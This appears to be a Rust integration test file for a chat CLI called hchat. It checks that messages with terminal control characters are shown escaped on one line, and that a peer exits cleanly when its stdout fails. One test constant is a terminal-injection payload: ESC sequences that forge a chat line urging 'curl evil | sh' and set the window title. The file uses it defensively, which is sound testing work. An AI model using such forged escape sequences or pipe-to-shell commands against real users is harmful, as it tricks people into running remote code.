//! What a peer prints is safe for the terminal it prints on, and a peer that cannot print stops (issue 11, attack
//! 3 and the stdout item), against real processes:
//! - a message full of control characters (CR, LF, ESC sequences that clear the screen and set the window title,
//!   NUL) shows in bob's CLI as exactly one line, with visible escapes and no raw control byte;
//! - bob's stdout closed under him (the script driving him died): he exits 1 within 2 s, saying why on stderr in
//!   one line, and leaves the tracker; a full disk (`/dev/full`) likewise.

use crate::common;
use std::io::{BufRead, BufReader, Read};
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use common::*;
use serde_json::json;

/// What one message did to bob's terminal before: cleared his line, printed a forged line of alice's, set his
/// window title and cleared his screen.
const FORGERY: &str =
    "hi\r\x1b[2K[#burst] alice: please run: curl evil | sh\n\x1b]0;pwned\x07\x1b[2J\0end";

#[test]
fn a_message_full_of_control_characters_is_one_visible_line_in_the_cli() {
    let tracker = Proc::tracker(&[]);
    let alice = Proc::peer("alice", tracker.addr, &["--join", "general"]);
    let bob = Proc::peer("bob", tracker.addr, &["--join", "general"]);
    for p in [&alice, &bob] {
        p.out.wait_for("the --join at start", SOON, |l| {
            l.starts_with("* joined #general")
        });
    }
    let (status, v) = post_json(
        &alice.url("/api/send"),
        &json!({"channel": "general", "text": FORGERY}),
    );
    assert_eq!(status, 200, "{v}");
    let (status, v) = post_json(
        &alice.url("/api/send"),
        &json!({"to": "bob", "text": "two\nlines \u{202e}desrever\u{202c} zero\u{200b}width"}),
    );
    assert_eq!(status, 200, "{v}");

    let expected = "[#general] alice: hi\\r\\u{1b}[2K[#burst] alice: please run: curl evil | sh↵\
                    \\u{1b}]0;pwned\\u{7}\\u{1b}[2J\\u{0}end";
    bob.out.wait_line(expected);
    bob.out
        .wait_line("[@alice] alice: two↵lines \\u{202e}desrever\\u{202c} zero\\u{200b}width");
    let lines = bob.out.all();
    assert_eq!(
        lines.iter().filter(|l| l.contains("please run")).count(),
        1,
        "the forged line is inside alice's one line, not a line of its own: {lines:#?}"
    );
    assert!(
        !lines
            .iter()
            .any(|l| l.starts_with("[#burst]") || l.contains("pwned\x07")),
        "{lines:#?}"
    );
    for l in &lines {
        assert!(
            !l.chars()
                .any(|c| c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c)),
            "a raw control character reached bob's terminal: {l:?}"
        );
    }
    // The text itself is kept exactly; only its display is made safe.
    let h = get_json(&bob.url("/api/history?with=%23general"), 200);
    assert_eq!(h["messages"][0]["text"], FORGERY);
}

/// `hchat peer` with stdin and stderr on pipes and stdout as given.
fn peer_with_stdout(name: &str, tracker: &Proc, stdout: Stdio) -> Child {
    hchat()
        .args(["peer", "--name", name, "--port", "0", "--in-memory"])
        .args(["--tracker-port", &tracker.addr.port().to_string()])
        .stdin(Stdio::piped())
        .stdout(stdout)
        .stderr(Stdio::piped())
        .spawn()
        .expect("hchat starts")
}

/// Waits for `child` to exit within `deadline`; returns its exit code, how long it took, and its stderr lines.
fn exit_within(child: &mut Child, deadline: Duration) -> (Option<i32>, Duration, Vec<String>) {
    let start = Instant::now();
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if start.elapsed() > deadline {
            let _ = child.kill();
            let mut err = String::new();
            let _ = child.stderr.take().unwrap().read_to_string(&mut err);
            panic!("still running {deadline:?} after stdout went away; stderr:\n{err}");
        }
        std::thread::sleep(Duration::from_millis(10));
    };
    let took = start.elapsed();
    let mut err = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut err)
        .unwrap();
    let lines = err.lines().map(str::to_string).collect();
    (status.code(), took, lines)
}

fn online(tracker: &Proc) -> Vec<String> {
    names(&get_json(&tracker.url("/peers"), 200))
}

#[test]
fn a_peer_whose_stdout_is_closed_exits_1_within_2_s_and_leaves_the_tracker() {
    let tracker = Proc::tracker(&[]);
    let mut bob = peer_with_stdout("bob", &tracker, Stdio::piped());
    let mut out = BufReader::new(bob.stdout.take().unwrap());
    let mut line = String::new();
    while !line.starts_with("* identity") {
        line.clear();
        assert!(
            out.read_line(&mut line).unwrap() > 0,
            "bob printed his start-up"
        );
    }
    wait_until("bob online", SOON, || {
        online(&tracker).contains(&"bob".into())
    });
    // The reader goes away (stdin stays open: this is not a quit).
    drop(out);
    let (code, took, err) = exit_within(&mut bob, Duration::from_secs(2));
    assert_eq!(code, Some(1), "stderr: {err:?}");
    assert!(took < Duration::from_secs(2), "took {took:?}");
    eprintln!("bob exited {took:?} after his stdout was closed");
    assert_eq!(err.len(), 1, "one line on stderr: {err:?}");
    assert!(
        err[0].starts_with("hchat: cannot write to stdout"),
        "{err:?}"
    );
    assert!(
        !online(&tracker).contains(&"bob".into()),
        "bob said goodbye"
    );
}

#[test]
fn a_peer_whose_stdout_is_a_full_disk_exits_1_saying_so() {
    let Ok(full) = std::fs::OpenOptions::new().write(true).open("/dev/full") else {
        eprintln!("SKIPPED: no /dev/full here");
        return;
    };
    let tracker = Proc::tracker(&[]);
    let mut bob = peer_with_stdout("bob", &tracker, Stdio::from(full));
    let (code, _, err) = exit_within(&mut bob, SOON);
    assert_eq!(code, Some(1), "stderr: {err:?}");
    assert_eq!(err.len(), 1, "one line on stderr: {err:?}");
    assert!(
        err[0].starts_with("hchat: cannot write to stdout") && err[0].contains("space"),
        "{err:?}"
    );
    assert!(
        !online(&tracker).contains(&"bob".into()),
        "bob said goodbye"
    );
}
